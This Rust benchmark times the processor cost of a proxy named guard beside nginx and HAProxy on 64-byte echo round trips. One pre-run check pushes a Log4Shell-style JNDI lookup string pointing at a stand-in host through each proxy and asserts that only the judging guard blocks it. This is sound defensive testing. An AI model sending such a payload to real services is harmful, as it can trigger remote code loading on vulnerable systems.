//! What a message costs on its way through: guard beside nginx and HAProxy.
//!
//! `cargo build --release -p guard && cargo bench -p gabion-benches --bench messages [-- SECONDS]`, or
//! `benches/messages/run`.
//!
//! A message of 64 bytes goes up and comes back, one at a time on each socket. Each proxy has one worker
//! on one core; the load (this process) and the echo share another. What counts is the processor time
//! of the proxy for each round trip, user and system (`/proc/PID/schedstat`); without a proxy it is
//! that of the echo. The median of several rounds, in each of which everyone has a turn.

#![allow(
    clippy::disallowed_methods,
    clippy::expect_used,
    clippy::panic,
    clippy::unwrap_used,
    reason = "a bench asks its machine, and may stop"
)]

mod echo;
mod load;
mod stand;

use std::{env, iter, process::ExitCode, time::Duration};

use gabion_benches::process::{OTHER_CORE, Running, stay_on};
use load::Run;
use stand::{House, Stand};

/// How long one proxy is talked through with so many sockets in one round.
const SECONDS: u64 = 3;

const ROUNDS: usize = 5;

/// How many sockets are open.
const SOCKETS: [usize; 2] = [1, 100];

fn main() -> ExitCode {
    let args: Vec<String> = env::args().skip(1).collect();
    if let [role, addr] = &args[..]
        && role == echo::ROLE
    {
        echo::serve(addr.parse().expect("an address"));
        return ExitCode::SUCCESS;
    }
    let is_test = gabion_benches::is_test();
    let seconds = args.iter().find_map(|arg| arg.parse().ok());
    let seconds = Duration::from_secs(seconds.unwrap_or(if is_test { 1 } else { SECONDS }));
    let rounds = if is_test { 1 } else { ROUNDS };
    stay_on(OTHER_CORE);
    let house = House::build();
    let proxies = Stand::PROXIES.map(|stand| (stand, house.start(stand)));
    let proxies = proxies
        .iter()
        .filter_map(|(stand, running)| Some((*stand, running.as_ref()?)));
    let stands: Vec<_> = iter::once((Stand::Direct, &house.echo))
        .chain(proxies)
        .collect();

    for (stand, running) in &stands {
        let passes = load::is_echoed(running, b"${jndi:ldap://evil.example}");
        assert_eq!(passes, *stand != Stand::GuardJudges, "{stand}");
    }
    let mut seen = vec![[const { Vec::new() }; SOCKETS.len()]; stands.len()];
    for _ in 0..rounds {
        for (nth, sockets) in SOCKETS.into_iter().enumerate() {
            for ((_, running), seen) in stands.iter().zip(&mut seen) {
                seen[nth].push(load::put_on(running, sockets, seconds));
            }
        }
    }
    print(&stands, seen);
    ExitCode::SUCCESS
}

fn print(stands: &[(Stand, &Running)], seen: Vec<[Vec<Run>; SOCKETS.len()]>) {
    println!("processor time for each round trip, in microseconds (round trips a second)");
    print!("{:<28}", "sockets");
    for sockets in SOCKETS {
        print!("{sockets:>20}{:>8}", "ratio");
    }
    println!();
    let peer = stands.iter().position(|(stand, _)| *stand == Stand::Nginx);
    let peer = peer.map(|nth| seen[nth].clone());
    for ((stand, _), seen) in stands.iter().zip(seen) {
        print!("{stand:<28}");
        for (nth, runs) in seen.into_iter().enumerate() {
            let ratio = peer.as_ref().map(|peer| load::ratio(&runs, &peer[nth]));
            let Run { micros, per_second } = load::median(runs);
            print!("{:>20}", format!("{micros:.1} ({per_second:.0})"));
            match ratio {
                Some(ratio) => print!("{ratio:>8.2}"),
                None => print!("{:>8}", "-"),
            }
        }
        println!();
    }
}
